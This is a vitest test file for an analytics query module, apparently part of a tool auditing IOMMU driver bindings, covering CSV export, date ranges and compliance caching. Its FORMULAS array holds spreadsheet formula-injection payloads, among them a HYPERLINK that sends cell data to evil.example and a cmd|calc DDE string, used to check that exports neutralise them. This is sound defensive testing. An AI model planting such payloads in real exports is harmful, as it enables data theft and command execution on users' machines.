import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createEventBuilder, type RecordedEvent } from '../../../schemas/index.js';
import { describeWithEngine } from '../../shared/testing/engines.js';
import { createAnalyticsQueries, type AnalyticsQueries } from './analyticsQueries.js';
import { getClickHouseAnalyticsSink } from './clickhouseAnalyticsSink.js';
import { createAnalyticsClient, type AnalyticsClient } from './clickhouseClient.js';
import { migrate } from './migrate.js';
import { chdbAvailability } from './testing/chdbAvailability.js';

const DAY = 86_400_000_000_000n;
const D1 = 1_732_406_400_000_000_000n; // 2024-11-24T00:00:00Z
// what a spreadsheet would run: each character OWASP lists as a formula start
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

const b = createEventBuilder({ host: 'h1' });
const recorded: RecordedEvent[] = FORMULAS.map((comm, i) => ({
  event: b.event('DriverBound', { device: '0000:01:00.0', driver: 'vfio-pci' }, { atNs: D1 + BigInt(i) * DAY, actor: { comm, vm: comm, tenant: `t${i}` } }),
  streamName: 'host-h1',
  streamPosition: BigInt(i),
  globalPosition: BigInt(i + 1),
}));

describeWithEngine('chdb', chdbAvailability(), 'Analytics > queries on ordinary and hostile input (chdb)', () => {
  let dir: string;
  let ac: AnalyticsClient;
  let q: AnalyticsQueries;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'iommutrail-chq-'));
    ac = createAnalyticsClient({ target: { kind: 'embedded', path: dir }, database: 'querytest' });
    await migrate(ac);
    await getClickHouseAnalyticsSink(ac).write({
      events: recorded,
      violations: [],
      groupStates: [],
      compliance: recorded.map((r, i) => ({ host: 'h1', day: `2024-11-${24 + i}`, opened: 0, closed: 0, maxOpen: i % 2, openAtEnd: 0, events: 1n, version: r.globalPosition })),
      checkpoint: { subscriber: 'test', position: BigInt(recorded.length) },
    });
    q = createAnalyticsQueries(ac);
  });
  afterAll(async () => {
    await ac.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('hardening #10: a CSV cell starting with = + - @ tab or CR is neutralised with a leading quote', async () => {
    const csv = await q.csv('events', { host: 'h1' });
    for (const f of FORMULAS) {
      const quoted = `"'${f.replaceAll('"', '""')}"`;
      // actor_comm and actor_vm both carry it
      expect(csv.split(quoted).length - 1, JSON.stringify(f)).toBe(2);
    }
    // no quoted cell begins with a formula character
    expect(csv).not.toMatch(/,"[=+\-@\t\r]/);
  });

  it('given ordinary cells, when exported as CSV, then text is quoted and numbers are bare', async () => {
    const csv = await q.csv('compliance', {});
    const lines = csv.trim().split('\n');
    expect(lines[0]).toBe('"day","hosts_compliant","hosts_non_compliant","hosts_not_assessed","compliant_share","compliant"');
    expect(lines[1]).toBe('"2024-11-24",1,0,0,1,"100.0%"');
  });

  it('hardening #14: violation-events for an unknown violation key is an empty table, not a 500', async () => {
    expect(await q.table('violation-events', { violationKey: 'no-such-violation' })).toEqual([]);
    expect((await q.csv('violation-events', { violationKey: 'no-such-violation' })).trim().split('\n')).toHaveLength(1);
  });

  it('hardening #14: compliance with from/to gives the days that overlap the range', async () => {
    const rows = await q.table('compliance', { fromNs: D1 + DAY + 5n, toNs: D1 + 3n * DAY + 5n });
    expect(rows.map((r) => r.day)).toEqual(['2024-11-25', '2024-11-26', '2024-11-27']);
    expect(await q.table('compliance', { fromNs: D1 + 100n * DAY })).toEqual([]);
  });

  it('issue 21: a compliance period from more than 1100 days back is refused naming from, a derived one is cut (the fuzz found 1970 to 2262 computing for minutes)', async () => {
    await expect(q.compliance({ fromNs: 0n, toNs: D1 })).rejects.toThrow(/at most 1100/);
    await expect(q.summary({ fromNs: 0n })).rejects.toThrow(/at most 1100/);
    // a far "as of" alone: the last 1100 days up to it
    const far = await q.compliance({ toNs: 9_223_372_036_854_775_807n });
    expect(far.days).toHaveLength(1100);
    const c = await q.compliance({});
    expect(c.days.map((d) => d.day)).toEqual(['2024-11-24', '2024-11-25', '2024-11-26', '2024-11-27', '2024-11-28', '2024-11-29']);
  });

  it('issue 21: one dashboard load assesses compliance once (headline, per day and per host share it); new data is assessed again', async () => {
    // given the same filters asked three times at once, as one page load does
    const [first, second, third] = await Promise.all([q.compliance({}), q.compliance({}), q.compliance({})]);
    // then one assessment answers all three
    expect(second).toBe(first);
    expect(third).toBe(first);
    // when an event of a seventh day arrives, then the next answer is a new assessment that counts it
    const n = recorded.length;
    await getClickHouseAnalyticsSink(ac).write({
      events: [{ event: b.event('DriverBound', { device: '0000:01:00.0', driver: 'vfio-pci' }, { atNs: D1 + BigInt(n) * DAY }), streamName: 'host-h1', streamPosition: BigInt(n), globalPosition: BigInt(n + 1) }],
      violations: [],
      groupStates: [],
      compliance: [],
      checkpoint: { subscriber: 'test', position: BigInt(n + 1) },
    });
    const after = await q.compliance({});
    expect(after).not.toBe(first);
    expect(after.days).toHaveLength(first.days.length + 1);
  });
});
